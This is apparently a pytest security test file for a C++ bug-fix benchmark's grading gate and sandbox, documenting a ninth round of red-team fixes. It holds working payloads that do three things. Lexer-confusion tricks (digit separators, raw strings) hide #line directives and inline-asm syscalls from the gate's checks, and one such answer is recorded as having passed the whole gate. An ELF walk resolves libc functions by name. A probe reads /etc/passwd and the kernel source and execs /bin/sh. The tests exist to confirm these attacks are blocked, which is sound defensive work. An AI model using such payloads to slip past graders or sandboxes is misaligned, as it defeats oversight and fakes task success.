"""HLS, issue 14 round 9: the gaps left after round 8, closed.

1. **Lexer** (:mod:`harness.families.hls.lexer`). The gate's text rules read a fix with its
   comments and literals taken out, and split it differently from GCC in two places: a raw string
   (``R"(" /* ")"`` made the old character lexer take ``/*`` for a comment, hiding the lines up to
   the next ``*/`` from the name rules), and a C++14 digit separator (``1'0 + sizeof("'/*")``: both
   lexers read ``'0 + sizeof("'`` as a character literal, then a comment). Through the second, a
   ``#line`` hidden from the directive rules hid an ``asm`` ``syscall`` from the token rules, and the
   whole gate let it run (the answer below; checked before the fix: the gate's verdict was "no rule
   broken" and the build's output held the kernel's ``HW-SYSCALL-RAN``). Now one lexer splits text
   as GCC does, and a fix may hold no raw string literal (``raw-string``).
2. **Object** (:mod:`harness.families.hls.objcheck`): the kernel object holds no ``syscall``,
   ``sysenter`` or ``int`` instruction (``instruction``), whatever hid its source.
3. **Kernel program reach** (:mod:`harness.families.hls.judge`): see the classes below.
"""
from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from benchmarks.hls_hard import KERNELS_DIR
from harness.families.hls import lexer
from harness.families.hls.guard import check_fix_text
from harness.families.hls.items import HlsItem

KERNEL = KERNELS_DIR / "nibble_sum"
ORIGINAL = (KERNEL / "kernel.cpp").read_text()
BUGGY = ORIGINAL.replace("ap_int<4> w", "ap_int<5> w")
INCLUDE = '#include "kernel.h"\n'
LOOP = "    for (int i = 0; i < NS_WORDS; i++) {\n#pragma HLS PIPELINE"

#: A raw ``syscall`` (write on descriptor 2): what the hidden lines of the attacks below define.
SYSCALL_FN = ('static long hw_sc(long n, long a, const void *b, long c) { long r; asm volatile("syscall" : "=a"(r) '
              ': "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; }\n')
CALL = '    hw_sc(1, 2, "HW-SYSCALL-RAN\\n", 15);\n'


def _with(header: str, call: str = CALL, body: str = BUGGY) -> str:
    out = body.replace(INCLUDE, INCLUDE + header, 1).replace(LOOP, call + LOOP, 1)
    assert header in out and call in out
    return out


#: The round-9 answer that passed the whole gate: a digit separator hides ``#line`` (and through it
#: the ``asm``) from the text rules; the token rules read only the lines marked ``kernel.cpp``.
SEPARATOR_ATTACK = _with("static const int hw_k = 1'0 + sizeof(\"'/*\");\n"
                         '#line 1 "hw_x.h"\n' + SYSCALL_FN + '#line 4 "kernel.cpp"\n// */\n')
#: A raw string hides token pasting and an ``asm`` from the name rules of ``integrity.check_fix``.
RAW_ATTACK = _with('static const char hw0[] = R"(" /* ")";\n#define HW_CAT(a, b) a##b\n' + SYSCALL_FN
                   + 'static const char hw1[] = R"(*/)";\n')


def _item() -> HlsItem:
    return HlsItem(id="nibble_sum/a", kernel="nibble_sum", code=BUGGY, original=ORIGINAL, types=["USE"],
                   spans=[(5, 5)], symptom={"build": "plain", "status": "fail", "text": ""},
                   header=(KERNEL / "kernel.h").read_text(), kernel_dir=KERNEL)


class TestLexer:
    def test_the_separator_attack_is_rejected_for_its_directive(self) -> None:
        reason = check_fix_text(SEPARATOR_ATTACK, ORIGINAL)
        assert reason is not None and reason.startswith("directive: #line"), reason

    def test_the_raw_string_attack_is_rejected(self) -> None:
        # the name rules now see what the raw string hid (the old lexer saw nothing)...
        reason = check_fix_text(RAW_ATTACK, ORIGINAL)
        assert reason is not None and reason.startswith("token: token pasting"), reason
        # ...and with nothing else in it the raw string itself is the rule (the forms below)

    @pytest.mark.parametrize("literal", ['R"(")"', 'R"x()")x"', 'u8R"(/*)"', 'LR"(//)"', 'uR"(a)"', 'UR"q(")q"',
                                         'R\\\n"(")"', 'R\\  \n"(")"', '"a"R"(")"', 'x, R"(")"'])
    def test_every_raw_string_form_is_rejected(self, literal: str) -> None:
        fix = _with(f"static const char *hw_s = {literal};\n", call="")
        reason = check_fix_text(fix, ORIGINAL)
        assert reason is not None and reason.startswith("raw-string:"), (literal, reason)

    @pytest.mark.parametrize("text, expected", [
        ('R"(")" x', '"" x'), ('R"x()")x" y', '"" y'), ('u8R"(a)" z', '"" z'), ('LR"(//)" w', '"" w'),
        ('xR"(" /* q', 'xR""  '), ("a = 1'0 + sizeof(\"'/*\"); b */", "a = 1'0 + sizeof(\"\"); b */"),
        ("#define X ' /* \nint y; // */", "#define X ''\nint y;  "), ("0x1'fu'/*'", "0x1'fu''"),
    ])
    def test_the_lexer_splits_as_gcc_does(self, text: str, expected: str) -> None:
        assert lexer.strip(text, literals=True) == expected

    def test_honest_digit_separators_and_strings_pass(self) -> None:
        fix = BUGGY.replace("ap_int<5> w", "ap_int<4> w").replace(
            "ap_int<16> acc = 0;", "ap_int<16> acc = 0'0; // the 'sum' of \"nibbles\" /* no comment */")
        assert fix != BUGGY and check_fix_text(fix, ORIGINAL) is None


_SAMPLES = [
    "int a = 1'0 + sizeof(\"'/*\");\nint hidden1;\n// */\n",
    'const char *s = R"(" /* ")"; int hidden2; // R"(\nint after2;\n',
    'const char *t = R"x()")x"; int hidden3; /* R"( */ int after3;\n',
    "int b = 0x1'f + '\\''; int hidden4; const char *u = u8R\"(//)\"; int hidden5;\n",
    "#define X ' /* \nint hidden6; // */\nint z = xR\"(\" \"; int hidden7;\n",
]


def _names(code: str) -> list[str]:
    no_directives = "\n".join(ln for ln in code.split("\n") if not ln.lstrip().startswith("#"))
    return [t for k, t in lexer.lex(no_directives) if k == "ident"]


@pytest.mark.slow
@pytest.mark.parametrize("sample", _SAMPLES)
def test_the_lexer_sees_the_names_gcc_sees(sample: str, tmp_path: Path) -> None:
    """GCC's own tokenizer (``-fpreprocessed -E``: comments removed, nothing expanded) and the
    lexer agree on the names outside comments (literals are left whole by GCC, so both outputs are
    read by the lexer, on which GCC's has no comment left to misread)."""
    (tmp_path / "t.cpp").write_text(sample)
    res = subprocess.run(["g++", "-std=gnu++14", "-fpreprocessed", "-E", "t.cpp", "-o", "t.ii"], cwd=tmp_path,
                         capture_output=True, text=True, check=False)
    assert res.returncode == 0, res.stderr
    gcc = _names(re.sub(r'(?m)^# \d+ ".*$', "", (tmp_path / "t.ii").read_text()))
    ours = _names(lexer.strip(lexer.join_splices(sample), literals=False))
    assert ours == gcc, (sample, ours, gcc)
    assert any(n.startswith("hidden") for n in gcc)


# ------------------------------------------------------------------ 2. instructions in the object

#: ``#line`` hides the ``asm`` from the token rules (the text rules reject the ``#line``; these tests
#: call the gate's compiled-object stage directly, as if the text rules had missed it).
_HIDDEN = '#line 1 "hw_x.h"\n{}#line 4 "kernel.cpp"\n'
_ASMS = {
    "syscall": SYSCALL_FN,
    "bytes": 'static void hw_b() { asm volatile(".byte 0x0f, 0x05" ::: "memory"); }\n',
    "int80": 'static void hw_b() { asm volatile("int $0x80" ::: "memory"); }\n',
    "sysenter": 'static void hw_b() { asm volatile("sysenter" ::: "memory"); }\n',
    "rdtsc": 'static unsigned hw_b() { unsigned a, d; asm volatile("rdtsc" : "=a"(a), "=d"(d)); return a ^ d; }\n',
}


@pytest.fixture(scope="module")
def gate(hls_cache: Path, tmp_path_factory: pytest.TempPathFactory, bwrap_sandbox: object) -> object:
    from harness.families.hls.csim import ap_include_dir
    from harness.families.hls.guard import inspect_fix
    from harness.families.hls.sandboxed import sandbox_runner
    from harness.sandbox.base import Limits
    from tests.hls.pch import warm_cache

    cache = warm_cache(hls_cache, tmp_path_factory.mktemp("hls-rt9-cache"))
    include = ap_include_dir()
    runner = sandbox_runner(bwrap_sandbox, Limits(), [include, cache / "pch"])  # type: ignore[arg-type]
    root = tmp_path_factory.mktemp("hls-rt9-gate")

    def run(fix: str, name: str) -> str | None:
        return inspect_fix(fix, _item(), root / name, runner=runner, include=include, cache=cache)
    return run


@pytest.mark.slow
class TestInstructions:
    @pytest.mark.parametrize("name", sorted(_ASMS))
    def test_a_hidden_instruction_is_rejected(self, gate, name: str) -> None:  # type: ignore[no-untyped-def]
        call = "    hw_b();\n" if name != "syscall" else CALL
        fix = _with(_HIDDEN.format(_ASMS[name]), call=call)
        reason = gate(fix, name)
        assert reason is not None and reason.startswith("instruction:"), (name, reason)

    def test_the_right_fix_passes_the_object_rules(self, gate) -> None:  # type: ignore[no-untyped-def]
        assert gate(ORIGINAL + "// fixed\n", "right") is None


@pytest.mark.slow
def test_no_reference_kernel_holds_a_banned_instruction(hls_cache: Path, tmp_path: Path) -> None:
    """Every hls-bugs and hls-hard kernel, compiled as the gate compiles a fix, holds none of
    :data:`objcheck.BANNED_INSTRUCTIONS` (one g++ run per suite, each kernel beside its headers)."""
    from benchmarks.hls_bugs import KERNELS_DIR as BUGS_DIR
    from harness.families.hls.csim import ap_include_dir
    from harness.families.hls.guard import compile_bases
    from harness.families.hls.objcheck import banned_instructions

    bases, plain = compile_bases(ap_include_dir(), "g++", hls_cache)
    checked = 0
    for suite, folder in (("bugs", BUGS_DIR), ("hard", KERNELS_DIR)):
        sources = []
        for src in sorted(folder.glob("*/kernel.cpp")):
            dest = tmp_path / suite / src.parent.name
            dest.mkdir(parents=True)
            for f in src.parent.glob("*.h"):
                (dest / f.name).write_bytes(f.read_bytes())
            (dest / f"{src.parent.name}.cpp").write_bytes(src.read_bytes())
            sources.append(str(dest / f"{src.parent.name}.cpp"))
        res = subprocess.run([*bases[plain], "-c", *sources], cwd=tmp_path / suite, capture_output=True, text=True,
                             check=False)
        assert res.returncode == 0, res.stderr[-2000:]
        for obj in sorted((tmp_path / suite).glob("*.o")):
            assert banned_instructions(obj) == [], obj.name
            checked += 1
    assert checked == len(list(BUGS_DIR.glob("*/kernel.cpp"))) + len(list(KERNELS_DIR.glob("*/kernel.cpp"))) > 60


# ------------------------------------------------------------------ 3. what the kernel program reads and runs

#: Round 7/8's ELF walk (libc's dynamic symbol table from ``&labs``): libc's functions by name at
#: run time, naming nothing the gate sees.
WALK = r'''static unsigned long hw_rd(unsigned long a, unsigned long n) { unsigned long v = 0; const char *p; memcpy(&p, &a, sizeof p); memcpy(&v, p, n); return v; }
static unsigned long hw_libc(const char *nm) { long (*m)(long) = &labs; unsigned long b; memcpy(&b, &m, sizeof b); b &= ~0xfffUL; while (hw_rd(b, 4) != 0x464c457fUL) b -= 0x1000; unsigned long ph = b + hw_rd(b + 32, 8), dy = 0, st = 0, sy = 0; for (unsigned long i = 0; i < hw_rd(b + 56, 2); i++) if (hw_rd(ph + 56 * i, 4) == 2) dy = b + hw_rd(ph + 56 * i + 16, 8); for (; hw_rd(dy, 8) != 0; dy += 16) { if (hw_rd(dy, 8) == 5) st = hw_rd(dy + 8, 8); if (hw_rd(dy, 8) == 6) sy = hw_rd(dy + 8, 8); } if (st < b) st += b; if (sy < b) sy += b; for (unsigned long k = 1; k < 40000; k++) { unsigned long s = sy + 24 * k; const char *q; unsigned long qa = st + hw_rd(s, 4); memcpy(&q, &qa, sizeof q); int j = 0; while (nm[j] && q[j] == nm[j]) j++; if (!nm[j] && !q[j] && hw_rd(s + 6, 2) != 0) return b + hw_rd(s + 8, 8); } return 0; }
template <typename F> static F hw_fn(const char *nm) { unsigned long a = hw_libc(nm); F f; memcpy(&f, &a, sizeof f); return f; }
'''
#: Reads ``/etc/passwd``, the kernel's own source folder (``kernel-src``, in the build folder),
#: ``/proc/self/maps`` and libc, and runs ``/bin/sh`` directly and through the dynamic loader (each
#: in a forked child that exits 0 only if the program ran); one ``PROBE <what> yes|no`` line each
#: on standard error, which the judge relays.
PROBE = r'''static void hw_say(const char *what, bool ok) { auto w = hw_fn<long (*)(int, const void *, unsigned long)>("write"); char line[96]; int n = 0; for (const char *p = "PROBE "; *p; p++) line[n++] = *p; for (const char *p = what; *p; p++) line[n++] = *p; for (const char *p = ok ? " yes\n" : " no\n"; *p; p++) line[n++] = *p; w(2, line, n); }
static bool hw_read(const char *path) { auto o = hw_fn<int (*)(const char *, int, ...)>("open"); auto r = hw_fn<long (*)(int, void *, unsigned long)>("read"); int fd = o(path, 0); char b[4]; return fd >= 0 && r(fd, b, 4) > 0; }
static void hw_exec(const char *what, const char *prog, const char *a1, const char *a2, const char *a3) { auto f = hw_fn<int (*)()>("fork"); auto x = hw_fn<int (*)(const char *, char *const *, char *const *)>("execve"); auto wt = hw_fn<int (*)(int, int *, int)>("waitpid"); auto ex = hw_fn<void (*)(int)>("_exit"); int pid = f(); if (pid == 0) { const char *av[5] = {prog, a1, a2, a3, nullptr}; char *const *avp; memcpy(&avp, &av, sizeof avp); const char *const *pa = av; memcpy(&avp, &pa, sizeof avp); x(prog, avp, avp + 4); ex(9); } int st = 0; wt(pid, &st, 0); hw_say(what, pid > 0 && (st >> 8) == 0); }
static void hw_probe() { static bool done = false; if (done) return; done = true; hw_say("read-passwd", hw_read("/etc/passwd")); hw_say("read-src", hw_read("kernel-src/kernel.h")); hw_say("read-maps", hw_read("/proc/self/maps")); hw_say("read-lib", hw_read("@LIBC@")); hw_exec("exec-sh", "/bin/sh", "-c", "exit 0", nullptr); hw_exec("exec-loader", "@LD@", "/bin/sh", "-c", "exit 0"); }
'''
#: Before round 9 every probe said yes; what the kernel program needs (its maps, the libraries) stays.
CONFINED = {"read-passwd": "no", "read-src": "no", "read-maps": "yes", "read-lib": "yes", "exec-sh": "no",
            "exec-loader": "no"}


def _probe_fix(body: str) -> str:
    import glob

    payload = WALK + PROBE.replace("@LD@", sorted(glob.glob("/lib64/ld-linux-*.so.*"))[0]).replace(
        "@LIBC@", "/lib/x86_64-linux-gnu/libc.so.6")
    return _with("#include <cstring>\n#include <cmath>\n" + payload, call="    hw_probe();\n", body=body)


def _probes(output: str) -> dict[str, str]:
    return {ln.split()[1]: ln.split()[2] for ln in output.splitlines() if ln.startswith("PROBE ")}


def _landlock() -> bool:
    import ctypes

    return ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1) >= 1


@pytest.fixture(scope="module")
def rt9_cache(hls_cache: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.hls.pch import warm_cache

    return warm_cache(hls_cache, tmp_path_factory.mktemp("hls-rt9-reach"), trusted_parts=True)


@pytest.mark.slow
class TestKernelProgramReach:
    def test_the_probe_reads_and_runs_nothing_else(self, bwrap_sandbox, rt9_cache: Path,  # type: ignore[no-untyped-def]
                                                   tmp_path: Path) -> None:
        """The right fix with the probe (gate off: C-simulation alone), every build: it passes, and
        it reads only its maps and the libraries and runs nothing."""
        from harness.families.hls.csim import ap_include_dir, csim
        from harness.families.hls.sandboxed import sandbox_runner
        from harness.sandbox.base import Limits

        runner = sandbox_runner(bwrap_sandbox, Limits(), [ap_include_dir(), rt9_cache / "pch"])
        res = csim(_probe_fix(ORIGINAL), KERNEL / "tb.cpp", tmp_path, cache=rt9_cache, runner=runner)
        assert res.passed, {b: (r.status, r.symptom, r.output[-600:]) for b, r in res.builds.items()}
        expected = CONFINED if _landlock() else {k: v for k, v in CONFINED.items() if k.startswith("exec")}
        for build, out in res.builds.items():
            seen = _probes(out.output)
            assert {k: seen.get(k) for k in expected} == expected, (build, seen, out.output[-800:])

    def test_the_probe_with_the_bug_kept_passes_the_gate_and_fails(self, bwrap_sandbox, rt9_cache: Path,  # type: ignore[no-untyped-def]
                                                                    tmp_path: Path) -> None:
        """Through the whole pipeline (gate on: the walk names nothing it bans): ``fail``, the bug's."""
        from harness.families.hls.score import fix_at_exec
        from harness.sandbox.base import Limits

        v = fix_at_exec(_item(), _probe_fix(BUGGY), tmp_path, cache=rt9_cache, sandbox=bwrap_sandbox, limits=Limits())
        assert v.status == "fail" and "MISMATCH" in v.reason, v


_EVALUATE = """
import json, sys
from pathlib import Path
from harness.sandbox.local import BubblewrapSandbox
from harness.sandbox.base import Limits
from harness.families.hls.csim import ap_include_dir, csim
from harness.families.hls.sandboxed import sandbox_runner
from tests.security.test_hls_rt9 import KERNEL, ORIGINAL, _probe_fix
sb = BubblewrapSandbox()
cache = Path(sys.argv[2])
res = csim(_probe_fix(ORIGINAL), KERNEL / "tb.cpp", Path(sys.argv[1]), cache=cache, builds=("plain",),
           runner=sandbox_runner(sb, Limits(), [ap_include_dir(), cache / "pch"]))
sb.close()
print(json.dumps([res.status, res.builds["plain"].output]))
"""


@pytest.fixture(scope="module")
def no_landlock(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """test_hls_rt8's wrapper (ENOSYS to the Landlock calls), compiled here."""
    from tests.security.test_hls_rt8 import NO_LANDLOCK_C

    folder = tmp_path_factory.mktemp("nolandlock-rt9")
    (folder / "nolandlock.c").write_text(NO_LANDLOCK_C)
    subprocess.run(["gcc", "-O1", "nolandlock.c", "-o", "nolandlock"], cwd=folder, check=True)
    return folder / "nolandlock"


@pytest.mark.slow
def test_without_landlock_the_kernel_program_runs_nothing(no_landlock: Path, rt9_cache: Path, tmp_path: Path) -> None:
    """Under a wrapper that answers ENOSYS to the Landlock calls (test_hls_rt8's): the kernel
    program's own filter (installed by the host ``main``) still refuses every ``exec``; reads are
    open there (Landlock is what confines them), and the right fix passes."""
    import json
    import os
    import sys

    root = Path(__file__).resolve().parents[2]
    res = subprocess.run([str(no_landlock), sys.executable, "-c", _EVALUATE, str(tmp_path / "work"), str(rt9_cache)],
                         capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(root)}, cwd=root,
                         timeout=900, check=False)
    assert res.returncode == 0, res.stderr[-3000:]
    status, output = json.loads(res.stdout.strip().splitlines()[-1])
    seen = _probes(output)
    assert status == "pass" and seen.get("exec-sh") == "no" and seen.get("exec-loader") == "no", (status, seen)


# ------------------------------------------------------------------ honest answers, round 9 (HLS)

#: Honest round 9 F10 (nibble_sum/a): the real bug fixed with ``int32_t`` and a ``CHAR_BIT`` check,
#: adding two headers a fix may add. It was ``build-dependent``: the gate's ``-save-temps`` output
#: under the precompiled header marked a gap with a line marker where ``g++ -E`` without it wrote
#: a blank line, and the kernel's lines were compared as written.
F10_FIX = ORIGINAL.replace('#include "kernel.h"\n', '#include "kernel.h"\n#include <cstdint>\n#include <climits>\n', 1).replace(
    "    ap_int<4> w = word.range(4 * k + 3, 4 * k);\n",
    '    static_assert(CHAR_BIT == 8, "8-bit bytes assumed");\n'
    "    int32_t w = static_cast<int32_t>((word >> (4 * k)).to_uint() & 0xFu);\n"
    "    if (w & 0x8) w -= 16;  // sign-extend the 4-bit two's-complement weight\n", 1)


class TestHonestRound9:
    def test_the_kernels_lines_stand_at_their_source_lines(self) -> None:
        from harness.families.hls.scan import kernel_lines

        blank = '# 1 "kernel.cpp"\nint a;\n# 1 "h.h" 1\nint h;\n# 2 "kernel.cpp" 2\n\n\nint b;\n'
        marker = '# 1 "kernel.cpp"\nint a;\n# 1 "h.h" 1\nint h;\n# 4 "kernel.cpp" 2\nint b;\n'
        assert kernel_lines(blank) == kernel_lines(marker) == "int a;\n\n\nint b;\n"
        moved = '# 1 "kernel.cpp"\nint a;\n# 5 "kernel.cpp"\nint b;\n'
        assert kernel_lines(moved) != kernel_lines(marker)

    def test_the_prompt_names_what_a_fix_may_call(self) -> None:
        """Honest round 9 F4: ``new[]``/``delete[]`` are rejected (``external``) and the prompt now says so."""
        from harness.families.hls.prompt import ANSWER_FORMAT

        text = " ".join(ANSWER_FORMAT.split())
        assert "call only its own functions" in text and "(no new/delete, malloc or other library functions)" in text

    @pytest.mark.slow
    def test_a_fix_adding_cstdint_and_climits_passes(self, bwrap_sandbox, rt9_cache: Path,  # type: ignore[no-untyped-def]
                                                    tmp_path: Path) -> None:
        from harness.families.hls.score import fix_at_exec
        from harness.sandbox.base import Limits

        assert "#include <climits>" in F10_FIX and "int32_t w" in F10_FIX
        v = fix_at_exec(_item(), F10_FIX, tmp_path, cache=rt9_cache, sandbox=bwrap_sandbox, limits=Limits())
        assert v.status == "pass", v
